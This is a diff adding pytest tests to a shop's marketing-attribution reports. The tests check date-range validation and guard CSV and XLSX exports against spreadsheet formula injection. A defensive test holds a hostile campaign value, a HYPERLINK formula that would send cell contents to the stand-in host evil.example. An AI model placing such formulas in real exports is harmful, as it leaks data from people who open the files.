@@ -21,6 +21,7 @@ from shop.attribution.models import AttributionCredit, DailyEngagement, Touch
 from shop.attribution.rollups import rollups_advance
 from shop.checkout.services import CheckoutLine, ShippingAddress, checkout_complete
 from shop.orders import services as order_services
+from tests.spreadsheets import csv_rows, xlsx_cells
 
 pytestmark = pytest.mark.django_db
 
@@ -370,3 +371,51 @@ def test_article_editor_shows_the_last_30_days(client, article_factory, sku_fact
     figures = {div.dt.get_text(strip=True): div.dd.get_text(strip=True) for div in panel.select("dl div")}
     assert figures == {"Views": "12", "Clicks": "1", "Orders": "1", "Revenue": "88.50"}
     assert panel.find("a")["href"] == f"{REPORTS}article/{article.pk}/"
+
+
+@pytest.mark.parametrize(("dates", "message"), [
+    ("since=0001-01-01&until=0001-01-02", "Choose dates from 2000-01-01 to 2100-12-31."),
+    ("since=0001-01-01&until=0001-01-01", "Choose dates from 2000-01-01 to 2100-12-31."),
+    ("since=9999-12-30&until=9999-12-31", "Choose dates from 2000-01-01 to 2100-12-31."),
+    ("until=9999-12-31", "Choose dates from 2000-01-01 to 2100-12-31."),
+    ("since=10000-01-01&until=10000-01-02", "Enter a valid date."),
+    ("since=2025-03-31&until=2025-03-01", "The start date must not be after the end date."),
+])
+@pytest.mark.parametrize("where", ["", "by/article/", "by/campaign/", "article", "by/article/?export=csv",
+                                   "by/article/?export=xlsx"])
+def test_dates_out_of_range_answer_a_form_error_on_every_report(client, world, admin_user, dates, message, where):
+    # given a marketer on a report (the overview, a table, an article's drill-down, an export)
+    client.force_login(admin_user)
+    if where == "article":
+        where = f"article/{world['kettles'].pk}/"
+    separator = "&" if "?" in where else "?"
+
+    # when they ask for dates the calendar or the database cannot hold
+    response = client.get(f"{REPORTS}{where}{separator}{dates}")
+
+    # then the page answers with the filter form and its error, not a 500 or a file
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/html")
+    assert message in response.content.decode()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Spring sale")'
+
+
+def test_report_exports_keep_a_visitors_campaign_name_from_running_as_a_formula(client, world, admin_user):
+    # given a visitor who arrived with a utm_campaign that is a spreadsheet formula, and bought
+    sku = world["sku"]
+    hostile = touch(world["kettles"], when=at(15), utm_campaign=HYPERLINK)
+    credit(place(sku, key="evil"), revenue="70.00", touch=hostile, utm_campaign=HYPERLINK, placed=at(15))
+    client.force_login(admin_user)
+
+    # when a marketer exports the campaign table as CSV and as XLSX
+    as_csv = csv_rows(client.get(f"{REPORTS}by/campaign/?{RANGE}&export=csv"))
+    as_xlsx = xlsx_cells(client.get(f"{REPORTS}by/campaign/?{RANGE}&export=xlsx"))
+
+    # then the CSV cell starts with an apostrophe, the XLSX cell is text, exactly as typed
+    assert [row[0] for row in as_csv[1:]] == ["spring", "'" + HYPERLINK, "(no campaign)", "Direct / unattributed", "Total"]
+    assert as_xlsx[2][0] == (HYPERLINK, "s")
+    # and figures stay figures: the revenue is a number in both
+    assert as_csv[2][6] == "70.00"
+    assert as_xlsx[2][6] == (70, "n")
